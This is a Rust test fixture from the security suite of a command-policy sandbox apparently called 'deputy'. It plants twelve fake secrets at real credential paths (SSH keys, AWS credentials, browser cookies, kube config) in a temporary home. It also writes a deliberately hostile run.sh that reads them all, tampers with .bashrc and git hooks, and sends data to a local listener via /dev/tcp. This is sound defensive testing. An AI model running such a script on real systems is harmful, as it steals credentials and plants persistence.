//! A home with an ordinary workspace, twelve planted secrets and listeners, and what a case plants in it.

use crate::corpus::{Setup, here, write};
use crate::image::Image;
use crate::listeners::Listeners;
use crate::readers::Readers;
use deputy_policy::{Ruling, Situation, decide};
use deputy_protocol::{Access, Effect, Facts, Risk, ShellAccess};
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use tempfile::TempDir;

/// Where the secrets lie below the home; the last three in the workspace.
const SECRETS: [&str; 12] = [
    ".ssh/id_rsa",
    ".aws/credentials",
    ".netrc",
    ".git-credentials",
    ".kube/config",
    ".config/gh/hosts.yml",
    ".config/google-chrome/Default/Cookies",
    ".docker/config.json",
    ".gnupg/private-keys-v1.d/0.key",
    "project/.env",
    "project/.npmrc",
    "project/certs/server.key",
];

/// Ordinary files of the workspace.
const FILES: &[(&str, &str)] = &[
    ("README.md", "# Project\nTODO: write more\n"),
    ("CHANGELOG.md", "# 1.0\n"),
    ("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\n"),
    (
        "package.json",
        "{\"name\":\"app\",\"scripts\":{\"test\":\"./run.sh\"},\"dependencies\":{\"a\":\"1\"}}\n",
    ),
    ("src/main.rs", "fn main() {}\n// TODO\n"),
    ("src/lib.rs", "// TODO\nuse std::fs;\n"),
    ("docs/setup.md", "setup\n"),
    ("docs/faq.md", "password\n"),
    ("docs/env-vars.md", "env\n"),
    ("docs/curl-bash.md", "curl\n"),
    ("tests/a.rs", "\n"),
    ("data/people.csv", "a,b\n1,2\n3,4\n"),
    ("logs/app.log", "error one\nwarn two\n"),
    ("a.txt", "a\nb\n"),
    ("b.txt", "b\nc\n"),
    ("notes.txt", "n\nm\n"),
    ("empty/.keep", ""),
    (".env.example", "KEY=\n"),
    (".gitignore", ".env\n.npmrc\ncerts\ntarget\n"),
];

/// Says that a planted program ran; no file holds this text as it is.
pub(crate) const RAN: &str = "a-planted-program-ran-42";

/// A home at `home/dev` in a temporary folder, its workspace at `home/dev/project`.
pub(crate) struct Ground {
    folder: TempDir,
    env: BTreeMap<String, String>,
    tokens: Vec<String>,
    pub(crate) readers: Readers,
    pub(crate) listeners: Listeners,
}

impl Ground {
    /// The ground with what a case plants.
    pub(crate) fn of(setup: &Setup) -> Self {
        let folder = tempfile::Builder::new().prefix("deputy-security-").tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap();
        let home = root.join("home/dev");
        let workspace = home.join("project");
        for (name, content) in FILES {
            write(&workspace.join(name), content);
        }
        for name in [".bashrc", ".profile", ".gitconfig", ".config/deputy/rules.toml", "Documents/taxes.pdf"]
        {
            write(&home.join(name), "");
        }
        write(&root.join("elsewhere/precious.txt"), "precious\n");
        let tokens = plant_secrets(&home);
        let listeners = Listeners::at(&home.join("agent.sock"));
        write(&workspace.join("run.sh"), &planted_program(&home, listeners.port()));
        fs::set_permissions(workspace.join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
        make_repository(&workspace);

        setup.plant(&home);
        for (key, value) in &setup.git_config {
            git(&workspace, &["config", key, value]);
        }
        let secrets: Vec<PathBuf> = SECRETS.iter().map(|name| home.join(name)).collect();
        let readers = Readers::of(secrets.iter().map(PathBuf::as_path));
        Self { folder, env: setup.env.clone(), tokens, readers, listeners }
    }

    /// The ground with nothing planted but the secrets.
    pub(crate) fn ordinary() -> Self {
        Self::of(&Setup::default())
    }

    pub(crate) fn root(&self) -> PathBuf {
        self.folder.path().canonicalize().unwrap()
    }

    pub(crate) fn home(&self) -> PathBuf {
        self.root().join("home/dev")
    }

    pub(crate) fn workspace(&self) -> PathBuf {
        self.home().join("project")
    }

    /// Deputy's own folder in that home.
    pub(crate) fn deputy_home(&self) -> PathBuf {
        self.home().join(".local/share/deputy")
    }

    /// The environment that the case asks for.
    pub(crate) fn env(&self) -> &BTreeMap<String, String> {
        &self.env
    }

    /// The text with the home of the cases replaced by this one.
    pub(crate) fn here(&self, text: &str) -> String {
        here(&self.home(), text)
    }

    /// The secrets that a text shows.
    pub(crate) fn shown_in(&self, text: &str) -> Vec<&str> {
        let shown = |(_, token): &(&&str, &String)| text.contains(token.as_str());
        SECRETS.iter().zip(&self.tokens).filter(shown).map(|(name, _)| *name).collect()
    }

    /// Everything as it is now, but for what lies in `without`.
    pub(crate) fn image(&self, without: &[PathBuf]) -> Image {
        let image = Image::of(&self.root(), without);
        // Taking it reads the secrets.
        self.readers.seen();
        image
    }

    /// The situation of a call in the workspace.
    pub(crate) fn situation(&self) -> Situation {
        Situation {
            env: self.env.clone(),
            walls: true,
            ..Situation::new(self.home(), self.workspace(), self.deputy_home())
        }
    }

    /// The ruling on a shell text.
    pub(crate) fn decide(&self, command: &str) -> Ruling {
        let access = Access::Shell(ShellAccess { command: command.to_owned() });
        let summary = String::new();
        let facts = Facts {
            effect: Effect::Mutating,
            accesses: vec![access],
            summary: summary.into(),
            diff: None,
            plan: None,
            risk: Risk::Low,
        };
        decide(&self.situation(), &facts)
    }
}

/// Writes the secrets, each with a word of its own, and gives the words.
fn plant_secrets(home: &Path) -> Vec<String> {
    let random = blake3::hash(format!("{} {:?}", home.display(), std::time::SystemTime::now()).as_bytes());
    let words = SECRETS.iter().map(|name| {
        let word = blake3::hash(format!("{} {name}", random.to_hex()).as_bytes()).to_hex()[..32].to_owned();
        write(&home.join(name), &format!("secret {word}\n"));
        word
    });
    words.collect()
}

/// A program that does all the harm it can: what a planted hook, filter or wrapper would do.
fn planted_program(home: &Path, port: u16) -> String {
    let secrets: Vec<String> = SECRETS.iter().map(|name| home.join(name).display().to_string()).collect();
    format!(
        "#!/bin/bash\necho a-planted-program-ran-$((40 + 2))\ncat {}\necho x >> {home}/.bashrc\n\
         echo x > {home}/../../elsewhere/pwned\necho '[core]' >> .git/config\necho x > .git/hooks/pre-commit\n\
         echo x > .envrc\necho x > /dev/tcp/127.0.0.1/{port}\necho x > /dev/udp/127.0.0.1/{port}\nexit 0\n",
        secrets.join(" "),
        home = home.display(),
    )
}

fn make_repository(workspace: &Path) {
    git(workspace, &["init", "--quiet", "--initial-branch=main"]);
    git(workspace, &["add", "--all"]);
    git(
        workspace,
        &["-c", "user.name=Dev", "-c", "user.email=dev@localhost", "commit", "--quiet", "-m", "first"],
    );
}

fn git(workspace: &Path, arguments: &[&str]) {
    let done = Command::new("/usr/bin/git")
        .args(arguments)
        .current_dir(workspace)
        .env_clear()
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("PATH", "/usr/bin:/bin")
        .stdin(Stdio::null())
        .status()
        .unwrap();
    assert!(done.success(), "git {arguments:?}");
}
